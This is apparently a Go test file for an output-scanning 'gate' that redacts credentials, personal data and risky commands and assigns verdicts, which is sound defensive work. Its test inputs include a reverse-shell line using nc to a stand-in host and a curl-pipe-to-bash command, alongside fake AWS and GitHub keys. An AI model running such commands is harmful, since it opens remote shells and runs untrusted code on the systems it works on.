package gate

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/iotest"
)

const (
	fakeAWS    = "AKIAZ7QWERTY2345ABCD"
	fakeGitHub = "ghp_Zq3XbV9mN2kL8pR4tY6wE1uI0oA5sD7fG3hJ"
)

func newGate(t testing.TB, p Policy) *Gate {
	t.Helper()
	g, err := New(p)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func rulesOf(rep Report) []string {
	var ids []string
	for _, f := range rep.Findings {
		ids = append(ids, f.Rule)
	}
	return ids
}

func TestDefaultVerdicts(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	cases := []struct {
		in      string
		verdict Verdict
		out     string
	}{
		{"nothing to see", VerdictPass, "nothing to see"},
		{"host 10.1.2.3", VerdictPass, "host 10.1.2.3"},
		{"mail bob@example.com now", VerdictWarn, "mail [REDACTED:email] now"},
		{"key " + fakeAWS, VerdictBlock, "key [REDACTED:aws-access-key-id]"},
		{"tok " + fakeGitHub, VerdictQuarantine, "tok [REDACTED:github-pat]"},
		{"card 4111-1111-1111-1111.", VerdictQuarantine, "card [REDACTED:credit-card]."},
	}
	for _, c := range cases {
		out, rep := g.Scan("stdout", []byte(c.in))
		if rep.Verdict != c.verdict || string(out) != c.out {
			t.Errorf("Scan(%q) = %q, %s; want %q, %s", c.in, out, rep.Verdict, c.out, c.verdict)
		}
	}
}

func TestFindingOffsetsAndNoSecretInReport(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	in := "prefix\x00\xff\xfe\r\nkey=" + fakeAWS + "\r\n"
	_, rep := g.Scan("stderr", []byte(in))
	if len(rep.Findings) != 1 {
		t.Fatalf("findings %+v", rep.Findings)
	}
	f := rep.Findings[0]
	want := Finding{Scanner: "secrets", Rule: "aws-access-key-id", Severity: SeverityCritical,
		Stream: "stderr", Offset: int64(strings.Index(in, fakeAWS)), Length: len(fakeAWS)}
	if f != want {
		t.Errorf("finding %+v, want %+v", f, want)
	}
	js, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(js, []byte(fakeAWS)) || bytes.Contains(js, []byte(fakeAWS[4:])) {
		t.Errorf("report JSON leaks the secret: %s", js)
	}
	if !bytes.Contains(js, []byte(`"severity":"critical"`)) || !bytes.Contains(js, []byte(`"verdict":"block"`)) {
		t.Errorf("report JSON: %s", js)
	}
}

func TestExactBytes(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	// NUL bytes and invalid UTF-8 on both sides of a token.
	in := []byte("\x00\x00ghp_" + fakeGitHub[4:] + "\x00\xc3\x28\xff")
	out, rep := g.Scan("stdout", in)
	if want := "\x00\x00[REDACTED:github-pat]\x00\xc3\x28\xff"; string(out) != want {
		t.Errorf("out %q, want %q", out, want)
	}
	if len(rep.Findings) != 1 || rep.Findings[0].Offset != 2 {
		t.Errorf("findings %+v", rep.Findings)
	}
	// A 10 MB single line with findings at both ends.
	long := bytes.Repeat([]byte("abcdefgh "), 10<<20/9)
	line := append(append([]byte(fakeAWS+" "), long...), []byte(" "+fakeAWS)...)
	_, rep = g.Scan("stdout", line)
	if len(rep.Findings) != 2 || rep.Findings[1].Offset != int64(len(line)-len(fakeAWS)) {
		t.Errorf("long line findings %+v", rep.Findings)
	}
	var sink bytes.Buffer
	srep, err := g.ScanStream(context.Background(), "stdout", bytes.NewReader(line), &sink)
	if err != nil || !reflect.DeepEqual(srep, rep) {
		t.Errorf("stream report %+v, %v; want %+v", srep, err, rep)
	}
}

func TestWordBoundaries(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	for _, in := range []string{
		"the amount was discounted once since",
		"announce ounce syncing nc_count skip DISK ASK",
		"AKIAZ7QWERTY2345ABCDX",         // a longer run of upper case and digits
		"Q" + fakeAWS,                   // likewise, on the left
		"XSK" + strings.Repeat("a", 32), // short prefixes still start a word
	} {
		if _, rep := g.Scan("stdout", []byte(in)); len(rep.Findings) != 0 {
			t.Errorf("%q: findings %v", in, rulesOf(rep))
		}
	}
	if _, rep := g.Scan("stdout", []byte("nc -e /bin/sh evil.example 9001")); rep.Verdict != VerdictQuarantine {
		t.Errorf("nc -e: %s %v", rep.Verdict, rulesOf(rep))
	}
}

// TestGluedTokens checks that fixed-format credentials are found when a
// letter, digit, '_' or '-' touches them: gluing bytes to a key must not
// let it through.
func TestGluedTokens(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	for _, c := range []struct{ in, rule, secret string }{
		{"x" + fakeAWS, "aws-access-key-id", fakeAWS},
		{"_" + fakeAWS, "aws-access-key-id", fakeAWS},
		{fakeAWS + "x", "aws-access-key-id", fakeAWS},
		{fakeAWS + "_", "aws-access-key-id", fakeAWS},
		{fakeAWS + "-", "aws-access-key-id", fakeAWS},
		{"key=" + fakeAWS + "abc", "aws-access-key-id", fakeAWS},
		{"x" + fakeGitHub, "github-pat", fakeGitHub},
		{fakeGitHub + "x9_-", "github-pat", fakeGitHub},
		{"1sk_live_" + strings.Repeat("aB3", 10) + "_", "stripe-live-key", "sk_live_" + strings.Repeat("aB3", 10)},
		{"abcxoxb-12345678-12345678-" + strings.Repeat("Ab1", 9), "slack-bot-token", "xoxb-12345678-12345678-" + strings.Repeat("Ab1", 9)},
	} {
		out, rep := g.Scan("stdout", []byte(c.in))
		if !slices.Contains(rulesOf(rep), c.rule) || bytes.Contains(out, []byte(c.secret)) {
			t.Errorf("%q: rules %v, out %q", c.in, rulesOf(rep), out)
		}
	}
}

// TestFindingsCap checks that an artifact with more than MaxFindings
// findings is blocked, that nothing after the cut is returned, and that
// Scan and ScanStream agree.
func TestFindingsCap(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	g.chunk = 4099
	line := "mail a@example.com\n"
	data := []byte(strings.Repeat(line, MaxFindings+50) + fakeAWS)
	out, rep := g.Scan("stdout", data)
	if rep.Verdict != VerdictBlock || len(rep.Findings) != MaxFindings+1 {
		t.Fatalf("verdict %s, %d findings", rep.Verdict, len(rep.Findings))
	}
	last := rep.Findings[MaxFindings]
	cut := int64(MaxFindings*len(line) + len("mail "))
	if last.Rule != RuleTooManyFindings || last.Offset != cut || last.Length != len(data)-int(cut) {
		t.Errorf("cap finding %+v, want offset %d", last, cut)
	}
	if bytes.Contains(out, []byte("a@example.com")) || bytes.Contains(out, []byte("AKIA")) ||
		!bytes.HasSuffix(out, []byte("mail ")) {
		t.Errorf("output after the cut: %q", out[max(0, len(out)-40):])
	}
	r := bytes.NewReader(data)
	var sout bytes.Buffer
	srep, err := g.ScanStream(context.Background(), "stdout", r, &sout)
	if err != nil || !reflect.DeepEqual(srep, rep) || !bytes.Equal(sout.Bytes(), out) || r.Len() != 0 {
		t.Errorf("stream differs: %v, %d vs %d findings, %d unread", err, len(srep.Findings), len(rep.Findings), r.Len())
	}
	// With a size limit too, both findings are reported.
	p := DefaultPolicy()
	p.MaxArtifactSize = int64(len(data) - 5)
	g = newGate(t, p)
	_, rep = g.Scan("stdout", data)
	srep, err = g.ScanStream(context.Background(), "stdout", bytes.NewReader(data), io.Discard)
	if err != nil || !reflect.DeepEqual(srep, rep) || !slices.Equal(rulesOf(rep)[MaxFindings:], []string{RuleTooManyFindings, RuleMaxArtifactSize}) {
		t.Errorf("with size limit: %v %v / %v", err, rulesOf(rep)[MaxFindings:], rulesOf(srep)[MaxFindings:])
	}
}

func TestPolicy(t *testing.T) {
	p := DefaultPolicy()
	p.Actions[SeverityHigh] = ActionWarn
	p.Actions[SeverityInfo] = ActionWarn
	p.Allow = []string{"email"}
	g := newGate(t, p)
	out, rep := g.Scan("stdout", []byte("a@example.com "+fakeGitHub+" 10.0.0.1"))
	if rep.Verdict != VerdictWarn {
		t.Errorf("verdict %s", rep.Verdict)
	}
	if want := "a@example.com [REDACTED:github-pat] [REDACTED:ipv4]"; string(out) != want {
		t.Errorf("out %q, want %q", out, want)
	}
	if got := rulesOf(rep); !reflect.DeepEqual(got, []string{"github-pat", "ipv4"}) {
		t.Errorf("rules %v", got)
	}
	// Allowing a code rule must not hide a credential inside its match.
	jwt := "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	g = newGate(t, Policy{Allow: []string{"pipe-to-shell"}})
	out, rep = g.Scan("stdout", []byte("curl -H 'Authorization: Bearer "+jwt+"' https://x.example | bash"))
	if bytes.Contains(out, []byte(jwt)) || !reflect.DeepEqual(rulesOf(rep), []string{"jwt"}) {
		t.Errorf("allowed pipe-to-shell hid the jwt: %q %v", out, rulesOf(rep))
	}
	for _, bad := range []Policy{
		{Allow: []string{"no-such-rule"}},
		{Allow: []string{RuleRegisteredSecret}},
		{Actions: map[Severity]Action{SeverityHigh: Action(9)}},
		{Actions: map[Severity]Action{Severity(7): ActionPass}},
		{MaxArtifactSize: -1},
	} {
		if _, err := New(bad); !errors.Is(err, ErrInvalid) {
			t.Errorf("New(%+v) = %v, want ErrInvalid", bad, err)
		}
		if err := bad.Validate(); !errors.Is(err, ErrInvalid) {
			t.Errorf("Validate(%+v) = %v, want ErrInvalid", bad, err)
		}
	}
	for _, good := range []Policy{{}, DefaultPolicy(), p, {Allow: []string{"pipe-to-shell"}, MaxArtifactSize: 1}} {
		if err := good.Validate(); err != nil {
			t.Errorf("Validate(%+v) = %v", good, err)
		}
	}
}

func TestPolicyJSON(t *testing.T) {
	var p Policy
	in := `{"actions":{"high":"warn","info":"block"},"allow":["email"],"max_artifact_size":100}`
	if err := json.Unmarshal([]byte(in), &p); err != nil {
		t.Fatal(err)
	}
	if p.Actions[SeverityHigh] != ActionWarn || p.Actions[SeverityInfo] != ActionBlock || p.MaxArtifactSize != 100 {
		t.Fatalf("policy %+v", p)
	}
	g := newGate(t, p)
	if eff := g.Policy(); eff.Actions[SeverityCritical] != ActionBlock || eff.Actions[SeverityHigh] != ActionWarn {
		t.Errorf("effective policy %+v", eff)
	}
	if err := json.Unmarshal([]byte(`{"actions":{"severe":"warn"}}`), &p); err == nil {
		t.Error("unknown severity accepted")
	}
	if err := json.Unmarshal([]byte(`{"actions":{"high":"explode"}}`), &p); err == nil {
		t.Error("unknown action accepted")
	}
}

func TestRegisteredSecretForms(t *testing.T) {
	secret := []byte("s3cr3t/Value+with=odd&chars")
	p := DefaultPolicy()
	p.Actions[SeverityMedium] = ActionPass // registered secrets are redacted anyway
	g := newGate(t, p)
	g.AddSecret("db pass", secret)
	basic := base64.StdEncoding.EncodeToString(append([]byte("admin:"), secret...))
	forms := []string{
		string(secret),
		base64.StdEncoding.EncodeToString(secret),
		base64.URLEncoding.EncodeToString(secret),
		base64.RawStdEncoding.EncodeToString(secret),
		base64.RawURLEncoding.EncodeToString(secret),
		url.QueryEscape(string(secret)),
		url.PathEscape(string(secret)),
	}
	for _, form := range forms {
		out, rep := g.Scan("stdout", []byte("value: "+form+"\n"))
		if want := "value: [REDACTED:secret:db_pass]\n"; string(out) != want {
			t.Errorf("form %q: out %q, want %q", form, out, want)
		}
		if rep.Verdict != VerdictWarn {
			t.Errorf("form %q: verdict %s", form, rep.Verdict)
		}
	}
	// Embedded in a Basic auth header: the decoded output must not reveal it.
	out, _ := g.Scan("stdout", []byte("Authorization: Basic "+basic))
	if bytes.Contains(out, []byte(basic)) {
		t.Fatalf("basic auth not redacted: %q", out)
	}
	if dec, _ := base64.StdEncoding.DecodeString(basic); !bytes.Contains(dec, secret) {
		t.Fatal("test setup")
	}
}

func TestMaxArtifactSize(t *testing.T) {
	p := DefaultPolicy()
	p.MaxArtifactSize = 100
	g := newGate(t, p)
	data := bytes.Repeat([]byte("x"), 1000)
	out, rep := g.Scan("file:out.bin", data)
	if rep.Verdict != VerdictBlock || len(out) != 100 {
		t.Fatalf("verdict %s, %d bytes out", rep.Verdict, len(out))
	}
	last := rep.Findings[len(rep.Findings)-1]
	if last.Rule != RuleMaxArtifactSize || last.Offset != 100 || last.Length != 900 {
		t.Errorf("finding %+v", last)
	}
	r := bytes.NewReader(data)
	var sink bytes.Buffer
	srep, err := g.ScanStream(context.Background(), "file:out.bin", r, &sink)
	if err != nil || !reflect.DeepEqual(srep, rep) || sink.Len() != 100 || r.Len() != 0 {
		t.Errorf("stream: %+v %v, %d bytes out, %d unread", srep, err, sink.Len(), r.Len())
	}
	// Exactly at the limit is fine.
	if _, rep := g.Scan("stdout", data[:100]); rep.Verdict != VerdictPass {
		t.Errorf("at limit: %s", rep.Verdict)
	}
}

// corpusBlob concatenates every corpus sample, one per line.
func corpusBlob(t *testing.T) []byte {
	var b bytes.Buffer
	for _, name := range []string{"secrets", "data", "code"} {
		for _, kind := range []string{"positive", "negative"} {
			for _, s := range readCorpus(t, name+"."+kind+".jsonl") {
				b.WriteString(s.Text)
				b.WriteString("\n")
			}
		}
	}
	return b.Bytes()
}

// TestStreamEqualsScan scans several copies of the corpus (many times the
// stream overlap) with small chunks, also read one byte at a time, so that
// matches straddle chunk boundaries everywhere; the output and findings
// must equal the whole-buffer scan.
func TestStreamEqualsScan(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	g.AddSecret("tok", []byte("registered-value-123"))
	blob := corpusBlob(t)
	data := append(bytes.Repeat(blob, 1+4*(g.eng.Load().reach+64)/len(blob)), []byte("end registered-value-123")...)
	want, wantRep := g.Scan("stdout", data)
	for _, chunk := range []int{61, 1000, 4099, 1 << 20} {
		g.chunk = chunk
		for _, r := range []io.Reader{bytes.NewReader(data), iotest.OneByteReader(bytes.NewReader(data))} {
			var out bytes.Buffer
			rep, err := g.ScanStream(context.Background(), "stdout", r, &out)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(out.Bytes(), want) {
				t.Errorf("chunk %d: stream output differs from Scan", chunk)
			}
			if !reflect.DeepEqual(rep, wantRep) {
				t.Errorf("chunk %d: stream report differs: %d vs %d findings", chunk, len(rep.Findings), len(wantRep.Findings))
			}
		}
	}
}

// TestStreamBoundarySpanning places a key across every offset of a chunk
// boundary with a small chunk.
func TestStreamBoundarySpanning(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	g.chunk = 64
	ov := g.eng.Load().reach + 64
	for shift := 0; shift <= len(fakeAWS); shift++ {
		pad := bytes.Repeat([]byte{'.'}, 64+ov-shift) // the first cut is at 64+ov
		data := append(append(pad, ' '), []byte(fakeAWS+" tail")...)
		var out bytes.Buffer
		rep, err := g.ScanStream(context.Background(), "stdout", bytes.NewReader(data), &out)
		if err != nil {
			t.Fatal(err)
		}
		if rep.Verdict != VerdictBlock || len(rep.Findings) != 1 || rep.Findings[0].Offset != int64(len(pad)+1) {
			t.Fatalf("shift %d: %+v", shift, rep)
		}
		if bytes.Contains(out.Bytes(), []byte(fakeAWS[:10])) {
			t.Fatalf("shift %d: key leaked in %q", shift, out.Bytes()[len(pad)-4:])
		}
	}
}

func TestScanStreamErrors(t *testing.T) {
	g := newGate(t, DefaultPolicy())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := g.ScanStream(ctx, "stdout", strings.NewReader("x"), io.Discard); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
	boom := errors.New("boom")
	if _, err := g.ScanStream(context.Background(), "stdout", iotest.ErrReader(boom), io.Discard); !errors.Is(err, boom) {
		t.Errorf("read error: %v", err)
	}
	if _, err := g.ScanStream(context.Background(), "stdout", strings.NewReader("x"), failWriter{boom}); !errors.Is(err, boom) {
		t.Errorf("write error: %v", err)
	}
}

type failWriter struct{ err error }

func (w failWriter) Write([]byte) (int, error) { return 0, w.err }

func TestMerge(t *testing.T) {
	a := Report{Verdict: VerdictWarn, Findings: []Finding{{Rule: "email"}}}
	b := Report{Verdict: VerdictQuarantine, Findings: []Finding{{Rule: "github-pat"}}, QuarantineID: "q-1"}
	m := Merge(a, b, SkippedReport())
	if m.Verdict != VerdictQuarantine || len(m.Findings) != 2 || m.QuarantineID != "q-1" {
		t.Errorf("merge %+v", m)
	}
	if m := Merge(); m.Verdict != VerdictPass || m.Findings == nil {
		t.Errorf("empty merge %+v", m)
	}
	if m := Merge(SkippedReport(), SkippedReport()); m.Verdict != VerdictSkipped {
		t.Errorf("skipped merge %+v", m)
	}
	if m := Merge(Report{Verdict: VerdictBlock}, a); m.Verdict != VerdictBlock {
		t.Errorf("block merge %+v", m)
	}
}

func TestSeverityText(t *testing.T) {
	for _, s := range Severities() {
		b, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		var back Severity
		if err := json.Unmarshal(b, &back); err != nil || back != s || string(b) != `"`+s.String()+`"` {
			t.Errorf("%v: %s %v %v", s, b, back, err)
		}
	}
	if _, err := ParseSeverity("severe"); !errors.Is(err, ErrInvalid) {
		t.Errorf("ParseSeverity: %v", err)
	}
	if a, err := ParseAction("Redact"); err != nil || a != ActionWarn {
		t.Errorf("ParseAction: %v %v", a, err)
	}
	if _, err := json.Marshal(Severity(12)); err == nil {
		t.Error("invalid severity marshalled")
	}
}

// TestAutomatonMatchesNaive compares the interleaved DFA walk with a naive
// search on random keywords and text, including long texts that take the
// four-way path and keywords straddling its part boundaries.
func TestAutomatonMatchesNaive(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 7))
	alpha := "abAB01:_"
	word := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = alpha[r.IntN(len(alpha))]
		}
		return string(b)
	}
	for round := range 40 {
		var kws []string
		for range 1 + r.IntN(12) {
			kws = append(kws, word(1+r.IntN(5)))
		}
		a := newAutomaton(kws, nil)
		text := []byte(word([]int{3, 50, 300, 5000}[round%4]))
		got := map[[2]int]int{}
		a.scan(text, func(kw int32, end int) { got[[2]int{int(kw), end}]++ })
		want := map[[2]int]int{}
		for k, kw := range kws {
			for end := len(kw); end <= len(text); end++ {
				if strings.EqualFold(string(text[end-len(kw):end]), kw) {
					want[[2]int{k, end}]++
				}
			}
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("round %d: %d hits, want %d (keywords %q)", round, len(got), len(want), kws)
		}
	}
}

func TestRulesListed(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.ID] || r.ID == "" || r.Scanner == "" || r.Description == "" || !r.Severity.Valid() {
			t.Errorf("bad rule %+v", r)
		}
		seen[r.ID] = true
	}
	for _, id := range []string{"aws-access-key-id", "github-pat", "private-key", "credit-card", "us-ssn", "iban",
		"email", "phone", "ipv4", "jwt", "url-password", "generic-secret-assignment", "reverse-shell"} {
		if !seen[id] {
			t.Errorf("rule %s missing", id)
		}
	}
}

// TestCorpusFilesPresent guards against an empty testdata directory.
func TestCorpusFilesPresent(t *testing.T) {
	m, err := filepath.Glob(filepath.Join("testdata", "*.jsonl"))
	if err != nil || len(m) != 6 {
		t.Fatalf("corpus files: %v %v", m, err)
	}
	for _, f := range m {
		if st, err := os.Stat(f); err != nil || st.Size() == 0 {
			t.Errorf("%s: %v", f, err)
		}
	}
}

// TestEveryPatternCompiles compiles every rule's regular expression, which
// the gate otherwise compiles only when an anchor first hits: a bad
// expression must fail here, not in some later scan.
func TestEveryPatternCompiles(t *testing.T) {
	n := 0
	for _, s := range builtinScanners() {
		ps, ok := s.(*patternScanner)
		if !ok {
			continue
		}
		for _, o := range ps.owner {
			if o.pat.re != nil {
				_ = o.pat.re() // panics on a bad expression
				n++
			}
		}
	}
	if n == 0 {
		t.Fatal("no regular expression found: the test would prove nothing")
	}
}
